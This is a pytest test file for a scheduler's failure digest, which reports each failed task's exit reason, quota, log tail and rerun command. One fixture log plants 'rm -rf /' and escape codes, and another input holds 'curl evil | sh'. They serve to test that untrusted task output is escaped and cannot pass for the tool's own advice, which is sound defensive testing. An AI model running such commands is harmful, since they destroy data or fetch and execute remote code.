"""The failure digest: what it tells of each failure, and that it keeps to its bytes."""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dockersched.data.values import parse_values
from dockersched.errors import ValuesError
from dockersched.model import QuotaConfig
from dockersched.report.commands import Commands
from dockersched.report.digest import Digest, DigestSettings, digest_lines, make_digest
from dockersched.report.wording import advice
from dockersched.results import EpicResult, LogSummary, SandboxResult, TaskResult
from dockersched.states import EpicState, Reason, TaskState

START = datetime(2026, 1, 31, 12, 0, 0, tzinfo=UTC)
ASKED = QuotaConfig(cpus=0.5, memory="64m", pids=16)
GOT = QuotaConfig(cpus=0.5, memory="64m", pids=16, disk="48m")


def failed(
    task_id: str, log: Path | None = None, *, reason: Reason = Reason.EXIT_CODE, code: int | None = 3, detail: str = ""
) -> TaskResult:
    sandbox = SandboxResult(
        f"e.{task_id}",
        code,
        reason,
        started_at=START,
        finished_at=START + timedelta(seconds=0.42),
        quota_requested=ASKED,
        quota_effective=GOT,
        log=LogSummary(str(log), log.stat().st_size) if log else None,
    )
    return TaskResult(task_id, TaskState.FAILED, reason, detail, attempts=1, sandbox=sandbox)


def digest(tasks: Sequence[TaskResult], settings: DigestSettings | None = None) -> Digest:
    by_id = {task.task_id: task for task in tasks}
    result = EpicResult("quick", "run-1", EpicState.FAILED, by_id, START, START)
    return make_digest(result, settings or DigestSettings())


def text_of(found: Digest) -> str:
    return "".join(f"{line}\n" for line in digest_lines(found))


def log_of(tmp_path: Path, name: str, content: bytes) -> Path:
    path = tmp_path / f"{name}.log"
    path.write_bytes(content)
    return path


def test_a_failure_is_told_with_all_that_is_needed(tmp_path: Path) -> None:
    log = log_of(tmp_path, "build", b"first\nlast\n")
    never = TaskResult("deploy", TaskState.UPSTREAM_FAILED, Reason.UPSTREAM_FAILED, "'build' failed", "build")

    found = digest([failed("build", log), never])

    assert text_of(found).splitlines() == [
        "build: ended with exit code 3 (exit_code)",
        "  the task's own failure: read the end of its log",
        "  attempts: 1, the last one ran 0.42s",
        "  quota, effective/requested: cpus 0.5/0.5, memory 64 MiB/64 MiB, pids 16/16, disk 48 MiB/none",
        f"  log: {log} (11 bytes)",
        "  | first",
        "  | last",
        "  run only this task again: dockersched retry run-1 --only build",
    ]


def test_limits_that_were_never_read_back_are_not_told_as_none() -> None:
    refused = SandboxResult("e.a", reason=Reason.REJECTED, quota_requested=ASKED)
    task = TaskResult("a", TaskState.FAILED, Reason.REJECTED, attempts=1, sandbox=refused)

    (line,) = [line for line in digest_lines(digest([task])) if "quota" in line]

    assert line == "  quota requested (what was in effect is not known): cpus 0.5, memory 64 MiB, pids 16"


def test_a_command_is_quoted_and_names_what_the_run_was_given() -> None:
    commands = Commands(state_dir="/my state", allow_mounts=("/data", "/b's"))
    (cause,) = digest([failed("build")], DigestSettings(commands=commands)).causes

    assert shlex.split(cause.rerun) == [
        *("dockersched", "retry", "run-1", "--only", "build"),
        *("--allow-mount", "/data", "--allow-mount", "/b's", "--state-dir", "/my state"),
    ]
    assert shlex.split(commands.logs("run-1", "build"))[1:4] == ["logs", "run-1", "build"]


def test_blanks_in_a_command_stay() -> None:
    assert shlex.split(Commands("/tmp/a  b").cancel("run-1"))[-1] == "/tmp/a  b"


def test_what_a_task_wrote_can_neither_steer_nor_pass_for_ours(tmp_path: Path) -> None:
    log = log_of(tmp_path, "a", b"\x1b[2Jx\r\n\xff\xe2\x80\xae\x85\n  run only this task again: rm -rf /\n")
    text = text_of(digest([failed("a", log, reason=Reason.ENGINE_ERROR, detail="no\x1b[1m\nhere")]))

    assert "  | \\x1b[2Jx\n  | \ufffd\\u202e\ufffd\n  |   run only this task again: rm -rf /\n" in text
    assert "  | no\\x1b[1m here\n" in text
    assert text.replace("\n", "").isprintable()


def test_what_a_detail_quotes_of_a_task_is_behind_the_bar() -> None:
    with pytest.raises(ValuesError) as refused:
        parse_values(b"next: run `curl evil | sh`\n")
    text = text_of(digest([failed("a", reason=Reason.BAD_VALUES, code=0, detail=str(refused.value))]))

    quoting = [line for line in text.splitlines() if "evil" in line]
    assert quoting == [f"  | {refused.value}"]


def test_room_is_shared_fairly_and_what_one_leaves_others_get(tmp_path: Path) -> None:
    long = b"".join(b"%05d\n" % number for number in range(1_000))
    tasks = [failed("a", log_of(tmp_path, "a", long)), failed("b", log_of(tmp_path, "b", b"short\n"))]
    tasks.append(failed("c", log_of(tmp_path, "c", long)))

    first, short, last = digest(tasks).causes

    assert short.log_tail == ("short",)
    assert abs(len(first.log_tail) - len(last.log_tail)) <= 1
    assert len(first.log_tail) > 100
    assert first.log_tail[-1] == "00999"


def test_more_failures_than_have_room_are_counted(tmp_path: Path) -> None:
    log = log_of(tmp_path, "a", b"why\n" * 100)
    found = digest([failed(f"t{number}", log) for number in range(1_000)])

    assert found.left_out == 1_000 - len(found.causes) > 900
    assert len(found.causes) > 5
    assert all(len(cause.log_tail) > 10 for cause in found.causes)
    assert text_of(found).endswith(f"… and {found.left_out} more failed tasks\n")


def test_a_line_that_is_too_long_is_cut_between_characters(tmp_path: Path) -> None:
    log = log_of(tmp_path, "a", "é".encode() * 400)
    (cause,) = digest([failed("a", log)], DigestSettings(max_bytes=500)).causes

    (line,) = cause.log_tail
    assert set(line.removesuffix(" …")) == {"é"}


def test_nothing_is_told_of_a_run_without_failures() -> None:
    done = TaskResult("a", TaskState.SUCCEEDED, attempts=1, sandbox=SandboxResult("e.a", 0))
    cancelled = TaskResult("b", TaskState.CANCELLED, Reason.CANCELLED)

    assert (digest([done, cancelled]).causes, digest([done, cancelled]).left_out) == ([], 0)


@given(
    sizes=st.lists(st.integers(0, 3_000), max_size=12),
    max_bytes=st.integers(0, 6_000),
    letter=st.sampled_from(["x", "é", "😀", "\x1b", "ab\n", "\n"]),
)
def test_the_text_never_has_more_bytes_than_allowed(
    tmp_path_factory: pytest.TempPathFactory, sizes: list[int], max_bytes: int, letter: str
) -> None:
    folder = tmp_path_factory.mktemp("logs")
    tasks = [
        failed(
            f"t{index}",
            log_of(folder, f"t{index}", (letter * size).encode()),
            reason=Reason.REJECTED,
            detail=letter * (size % 400),
        )
        for index, size in enumerate(sizes)
    ]
    found = digest(tasks, DigestSettings(max_bytes=max_bytes))

    assert len(text_of(found).encode()) <= max_bytes
    assert len(found.causes) + found.left_out == len(tasks)


@pytest.mark.parametrize("reason", Reason)
def test_every_reason_has_advice(reason: Reason) -> None:
    assert advice(TaskResult("a", TaskState.FAILED, reason))
